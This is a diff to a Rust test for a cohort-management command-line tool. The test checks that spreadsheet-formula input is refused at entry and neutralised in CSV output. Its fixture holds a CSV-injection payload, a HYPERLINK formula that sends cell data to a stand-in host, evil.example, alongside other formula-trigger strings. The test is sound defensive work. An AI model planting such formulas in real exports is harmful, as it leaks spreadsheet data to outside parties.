@@ -7,6 +7,8 @@
 //! duplicate and renamed headers, `;` files, bad dates and ids; import files; `cohort.toml`; `init`'s
 //! names, dates and cadences; unknown people in most commands) are not repeated here.
 
+use std::fmt::Write as _;
+
 use std::collections::BTreeMap;
 
 use crate::harness::{TODAY, Workdir};
@@ -505,27 +507,50 @@ fn trust_cohort_toml_dates_cadences_and_closures_are_checked() {
 }
 
 #[test]
-fn trust_a_formula_in_a_name_is_stored_as_text_and_neutralised_in_csv_listings() {
+fn trust_a_formula_is_refused_at_entry_and_a_hand_typed_one_neutralised_in_csv_listings() {
     let w = small_cohort();
     let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
-    let run = w
-        .run(&[
-            "enrol",
-            "c",
-            "--role",
-            "mentor",
-            "--name",
-            formula,
-            "--email",
-            "f@x.example",
-            "--department",
-            "@SUM(1+1)",
-            "--format",
-            "csv",
-        ])
-        .ok();
-    let (_, rows) = read_csv(&run.stdout);
-    assert_eq!(rows[0][3], format!("'{formula}"), "{}", run.stdout);
+    // Every entry point refuses text a spreadsheet would run: flags (each field) and imports.
+    for (flag, value) in [
+        ("--name", formula),
+        ("--name", "+44 Leader"),
+        ("--name", "-Minus"),
+        ("--department", "@SUM(1+1)"),
+        ("--grade", "=1+1"),
+    ] {
+        let mut args = vec!["enrol", "c", "--role", "mentor", "--email", "f@x.example"];
+        if flag != "--name" {
+            args.extend(["--name", "Fay"]);
+        }
+        let given = format!("{flag}={value}");
+        args.push(&given);
+        w.refuses(
+            &args,
+            1,
+            &["runs as a formula", "remove that first character"],
+        );
+    }
+    w.write(
+        "formula.csv",
+        format!(
+            "Name,Email\n\"{}\",g@x.example\n",
+            formula.replace('"', "\"\"")
+        ),
+    );
+    w.refuses(
+        &["enrol", "c", "--from", "formula.csv", "--role", "mentor"],
+        1,
+        &["formula.csv:2: name", "runs as a formula"],
+    );
+    // A formula typed into participants.csv by hand is kept as text...
+    let mut people = w.cohort_file("c", "participants.csv");
+    let _ = writeln!(
+        people,
+        "p005,mentor,\"{}\",f@x.example,@SUM(1+1),,,active,2020-01-06,,,,",
+        formula.replace('"', "\"\"")
+    );
+    people.push_str("p006,mentee,+44 Leader,lead3@x.example,-Ops,,,active,2020-01-06,,,,\n");
+    w.write_cohort_file("c", "participants.csv", &people);
     let name_in_file = |w: &Workdir| {
         let (header, rows) = read_csv(&w.cohort_file("c", "participants.csv"));
         let name = header.iter().position(|h| h == "name").expect("name");
@@ -534,22 +559,13 @@ fn trust_a_formula_in_a_name_is_stored_as_text_and_neutralised_in_csv_listings()
             .map(|r| (r[name].clone(), r[name + 2].clone()))
             .expect("p005")
     };
-    assert_eq!(
-        name_in_file(&w),
-        (formula.to_string(), "@SUM(1+1)".to_string())
-    );
     // Round trip: another command rewrites participants.csv; the text is unchanged.
-    w.enrol(
-        "mentee",
-        "+44 Leader",
-        "lead3@x.example",
-        &["--department=-Ops"],
-    );
+    w.enrol("mentee", "Lead Four", "lead4@x.example", &[]);
     assert_eq!(
         name_in_file(&w),
         (formula.to_string(), "@SUM(1+1)".to_string())
     );
-    // Spreadsheet listings neutralise, JSON keeps the text as it is.
+    // ...and spreadsheet listings neutralise it, JSON keeps the text as it is.
     let csv = w
         .run(&["match", "c", "--dry-run", "--format", "csv"])
         .ok()
